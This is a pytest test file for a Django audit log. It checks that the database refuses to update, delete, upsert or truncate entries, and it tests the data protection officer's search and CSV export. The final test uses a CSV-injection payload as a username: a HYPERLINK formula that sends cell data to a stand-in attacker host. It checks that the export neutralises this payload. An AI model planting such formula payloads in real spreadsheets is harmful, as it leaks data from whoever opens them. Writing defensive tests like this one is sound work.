"""The audit log: the database refuses to change or delete it; the data protection officer searches and exports it."""

import csv
import io
import re
from datetime import UTC, datetime
from unittest import mock

import pytest
from django.conf import settings
from django.db import DatabaseError, connection, transaction
from django.urls import reverse

from wegweiser.accounts.roles import Role
from wegweiser.audit.models import AuditAction, AuditEntry
from wegweiser.audit.services import audit_read, audit_record, audit_record_ids, audit_record_many

on_postgresql = pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL only")


def entry(actor=None, *, at: datetime | None = None, **fields) -> AuditEntry:
    fields = {"action": AuditAction.READ, "object_type": "casework.person", "purpose": "counselling", **fields}
    with mock.patch("django.utils.timezone.now", return_value=at or datetime.now(UTC)), transaction.atomic():
        return audit_record(actor=actor, **fields)


def refused(change) -> str:
    """Run a change (SQL or a callable) against the audit log and return the database's refusal."""

    def run():
        with transaction.atomic():
            if callable(change):
                change()
            else:
                with connection.cursor() as cursor:
                    cursor.execute(change)

    with pytest.raises(DatabaseError) as error:
        run()
    return str(error.value)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "change",
    [
        pytest.param(lambda e: AuditEntry.objects.filter(pk=e.pk).update(purpose="nothing"), id="orm-update"),
        pytest.param(lambda e: AuditEntry.objects.filter(pk=e.pk).delete(), id="orm-queryset-delete"),
        pytest.param(lambda e: e.delete(), id="orm-instance-delete"),
        pytest.param(lambda e: (setattr(e, "purpose", "nothing"), e.save()), id="orm-save"),
        pytest.param("UPDATE audit_auditentry SET purpose = 'nothing'", id="sql-update"),
        pytest.param("DELETE FROM audit_auditentry", id="sql-delete"),
    ],
)
def test_the_database_refuses_to_change_or_delete_an_entry(change):
    kept = entry(summary="kept as written")

    message = refused(change if isinstance(change, str) else lambda: change(kept))

    assert "audit log is append-only" in message
    assert list(AuditEntry.objects.values_list("purpose", "summary")) == [("counselling", "kept as written")]


on_sqlite = pytest.mark.skipif(connection.vendor != "sqlite", reason="SQLite only")
INSERT_WITH_ID = """INTO audit_auditentry
    (id, at, actor_label, action, object_type, object_id, purpose, summary, changed_fields)
    VALUES (%s, '2020-01-01 00:00:00', 'x', 'read', 'casework.person', '', 'nothing', 'rewritten', '[]')"""


def execute(sql: str, params) -> None:
    with connection.cursor() as cursor:
        cursor.execute(sql, params)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "statement",
    [
        pytest.param("INSERT OR REPLACE " + INSERT_WITH_ID, id="insert-or-replace", marks=on_sqlite),
        pytest.param("REPLACE " + INSERT_WITH_ID, id="replace-into", marks=on_sqlite),
        pytest.param(
            "INSERT " + INSERT_WITH_ID + " ON CONFLICT (id) DO UPDATE SET purpose = excluded.purpose",
            id="upsert",
        ),
    ],
)
def test_the_database_refuses_to_overwrite_an_entry_by_inserting_its_id(statement):
    kept = entry(summary="kept as written")

    message = refused(lambda: execute(statement, [kept.pk]))

    assert "audit log is append-only" in message
    assert list(AuditEntry.objects.values_list("pk", "purpose", "summary")) == [
        (kept.pk, "counselling", "kept as written")
    ]


@pytest.mark.django_db
def test_an_insert_with_a_new_explicit_id_is_still_written():
    kept = entry()

    execute("INSERT " + INSERT_WITH_ID, [kept.pk + 1])

    assert AuditEntry.objects.count() == 2


@on_postgresql
@pytest.mark.django_db
def test_postgresql_refuses_truncate():
    entry()

    assert "audit log is append-only: TRUNCATE refused" in refused("TRUNCATE audit_auditentry")
    assert AuditEntry.objects.count() == 1


@pytest.mark.django_db
def test_new_entries_can_still_be_written():
    entry()
    entry(action=AuditAction.UPDATE)

    assert AuditEntry.objects.count() == 2


@pytest.mark.django_db(transaction=True)
def test_audit_record_refuses_to_run_outside_a_transaction():
    with pytest.raises(RuntimeError, match="inside the transaction of the change"):
        audit_record(actor=None, action=AuditAction.CREATE, object_type="casework.person", purpose="counselling")

    assert not AuditEntry.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_audit_read_writes_its_entry_in_a_transaction_of_its_own(world):
    caseworker = world.user(Role.CASEWORKER)

    written = audit_read(actor=caseworker, obj=world.partner, purpose="referral", municipality_id=7)

    stored = AuditEntry.objects.get()
    assert stored.pk == written.pk
    assert (stored.actor_id, stored.actor_label, stored.action) == (caseworker.pk, "beratung", AuditAction.READ)
    assert (stored.object_type, stored.object_id, stored.purpose) == (
        "network.organisation",
        str(world.partner.pk),
        "referral",
    )
    assert stored.municipality_id == 7


@pytest.mark.django_db
def test_audit_record_needs_a_purpose_and_a_record():
    with transaction.atomic(), pytest.raises(ValueError, match="purpose"):
        audit_record(actor=None, action=AuditAction.READ, object_type="casework.person", purpose="")
    with transaction.atomic(), pytest.raises(ValueError, match="obj or object_type"):
        audit_record(actor=None, action=AuditAction.READ, purpose="counselling")


# The data protection officer's search and export


@pytest.fixture
def dpo(client_as, client):
    client_as(Role.DATA_PROTECTION_OFFICER)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


@pytest.fixture
def log(world):
    """Four entries over three days, by two users, of two record types."""
    caseworker, admin = world.user(Role.CASEWORKER), world.user(Role.DISTRICT_ADMIN)
    return {
        "read": entry(caseworker, at=datetime(2026, 3, 2, 11, tzinfo=UTC), object_id="17", purpose="counselling"),
        "update": entry(
            caseworker,
            at=datetime(2026, 3, 3, 11, tzinfo=UTC),
            action=AuditAction.UPDATE,
            object_id="17",
            purpose="counselling",
            changed_fields=["phone", "address"],
            summary="contact details",
        ),
        "account": entry(
            admin,
            at=datetime(2026, 3, 3, 12, tzinfo=UTC),
            action=AuditAction.CREATE,
            object_type="accounts.user",
            object_id="5",
            purpose="account administration",
        ),
        "export": entry(
            caseworker,
            at=datetime(2026, 3, 5, 11, tzinfo=UTC),
            action=AuditAction.EXPORT,
            object_id="18",
            purpose="request",
        ),
    }


def listed(client, **query) -> list[str]:
    """The record column of the search result, top to bottom."""
    page = client.get(reverse("audit:list"), query).content.decode()
    body = page[page.index("<tbody>") : page.index("</tbody>")] if "<tbody>" in page else ""
    return re.findall(r"<td[^>]*>(.*?)</td>", body, re.S)[3::6]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({}, ["person #18", "user #5", "person #17", "person #17"]),
        ({"actor": "admi"}, ["user #5"]),
        ({"action": "update"}, ["person #17"]),
        ({"object_type": "accounts.user"}, ["user #5"]),
        ({"object_id": "17"}, ["person #17", "person #17"]),
        ({"date_from": "2026-03-03", "date_to": "2026-03-03"}, ["user #5", "person #17"]),
        ({"date_from": "2026-03-04"}, ["person #18"]),
        ({"actor": "beratung", "action": "read", "date_to": "2026-03-02"}, ["person #17"]),
        ({"actor": "nobody"}, []),
    ],
)
def test_the_data_protection_officer_searches_the_log(dpo, log, query, expected):
    assert listed(dpo, **query) == expected


def test_the_search_shows_entries_newest_first_with_what_a_person_needs(dpo, log, django_assert_max_num_queries):
    with django_assert_max_num_queries(8):
        page = dpo.get(reverse("audit:list")).content.decode()

    assert re.search(r"<td[^>]*>beratung</td>", page)
    assert re.search(r"<td[^>]*>changed</td>", page)
    assert "contact details (address, phone)" in page
    assert re.search(r"<td[^>]*>account administration</td>", page)


def test_purposes_record_types_and_fields_read_in_the_language_of_the_page(dpo, log):
    dpo.cookies[settings.LANGUAGE_COOKIE_NAME] = "de"
    page = dpo.get(reverse("audit:list")).content.decode()

    assert re.search(r"<td[^>]*>Kontenverwaltung</td>", page)
    assert re.search(r"<td[^>]*>Benutzer/in #5</td>", page)
    assert "account administration" not in page


def test_the_search_says_when_the_dates_are_the_wrong_way_round(dpo, log):
    page = dpo.get(reverse("audit:list"), {"date_from": "2026-03-05", "date_to": "2026-03-01"}).content.decode()

    assert "The end date lies before the start date." in page


def test_the_export_is_a_csv_of_the_search_in_the_readers_language_and_local_time(dpo, log):
    """The stored entries keep stable English words and UTC; the CSV reads like the page: German labels,
    actions, record types, purposes and field names, times in Europe/Berlin (11:00 UTC in March is 12:00)."""
    dpo.cookies[settings.LANGUAGE_COOKIE_NAME] = "de"
    response = dpo.get(reverse("audit:export"), {"actor": "beratung", "date_from": "2026-03-03"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(content.removeprefix("\ufeff"))))
    assert rows == [
        [
            "Zeit",
            "Benutzer/in",
            "Aktion",
            "Datensatzart",
            "Datensatz-Nr.",
            "Zweck",
            "Details",
            "Geänderte Felder",
            "Kommune (Nr.)",
        ],
        ["05.03.2026 12:00", "beratung", "exportiert", "Person", "18", "request", "", "", ""],
        [
            "03.03.2026 12:00",
            "beratung",
            "geändert",
            "Person",
            "17",
            "counselling",
            "contact details",
            "address, Telefon",
            "",
        ],
    ]


def test_the_export_in_english_keeps_english_words_and_local_time(dpo, log):
    content = b"".join(dpo.get(reverse("audit:export"), {"action": "export"}).streaming_content).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0][:3] == ["Time", "User", "Action"]
    assert rows[1][:4] == ["03/05/2026 noon", "beratung", "exported", "person"]


def test_the_export_without_filters_holds_every_entry(dpo, log):
    content = b"".join(dpo.get(reverse("audit:export")).streaming_content).decode("utf-8-sig")

    assert len(list(csv.reader(io.StringIO(content)))) == 1 + len(log)


def test_the_page_links_the_export_to_the_current_search(dpo, log):
    page = dpo.get(reverse("audit:list"), {"actor": "beratung", "action": "read"}).content.decode()

    assert f'href="{reverse("audit:export")}?actor=beratung&amp;action=read"' in page


@pytest.mark.django_db(transaction=True)
def test_audit_record_many_writes_one_entry_per_object_under_the_same_rules(world):
    caseworker = world.user(Role.CASEWORKER)
    objects = [world.partner, world.provider]
    with pytest.raises(RuntimeError, match="inside the transaction of the change"):
        audit_record_many(actor=caseworker, action=AuditAction.CREATE, purpose="placement", objects=objects)
    assert not AuditEntry.objects.exists()

    with transaction.atomic():
        audit_record_many(actor=caseworker, action=AuditAction.CREATE, purpose="placement", objects=objects)

    stored = list(AuditEntry.objects.order_by("id").values_list("actor_label", "object_type", "object_id", "purpose"))
    assert stored == [("beratung", "network.organisation", str(item.pk), "placement") for item in objects]
    assert all(item.at is not None for item in AuditEntry.objects.all())


@pytest.mark.django_db(transaction=True)
def test_audit_record_ids_writes_one_entry_per_id_in_one_batch_under_the_same_rules(world):
    """The placement run's store: entries by id without model instances (COPY on PostgreSQL)."""
    caseworker = world.user(Role.CASEWORKER)
    ids = [world.partner.pk, world.provider.pk]
    with pytest.raises(RuntimeError, match="inside the transaction"):
        audit_record_ids(
            actor=caseworker,
            action=AuditAction.CREATE,
            purpose="placement",
            object_type="network.organisation",
            object_ids=ids,
        )
    assert not AuditEntry.objects.exists()

    with transaction.atomic():
        written = audit_record_ids(
            actor=caseworker,
            action=AuditAction.CREATE,
            purpose="placement",
            object_type="network.organisation",
            object_ids=ids,
        )

    assert written == 2
    stored = list(
        AuditEntry.objects.order_by("id").values_list(
            "actor_id", "actor_label", "action", "object_type", "object_id", "purpose", "changed_fields", "summary"
        )
    )
    assert stored == [
        (caseworker.pk, "beratung", "create", "network.organisation", str(pk), "placement", [], "") for pk in ids
    ]
    times = set(AuditEntry.objects.values_list("at", flat=True))
    assert len(times) == 1
    assert None not in times


def test_the_export_hands_a_spreadsheet_no_formula(dpo, world):
    """A user name that a spreadsheet would run as a formula arrives as text (leading quote, OWASP)."""
    caseworker = world.user(Role.CASEWORKER)
    caseworker.username = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    caseworker.save()
    entry(caseworker, object_id="17", summary="@SUM(A1:A9)", purpose="counselling")

    content = b"".join(dpo.get(reverse("audit:export")).streaming_content).decode("utf-8-sig")

    row = list(csv.reader(io.StringIO(content)))[1]
    assert row[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert row[6] == "'@SUM(A1:A9)"
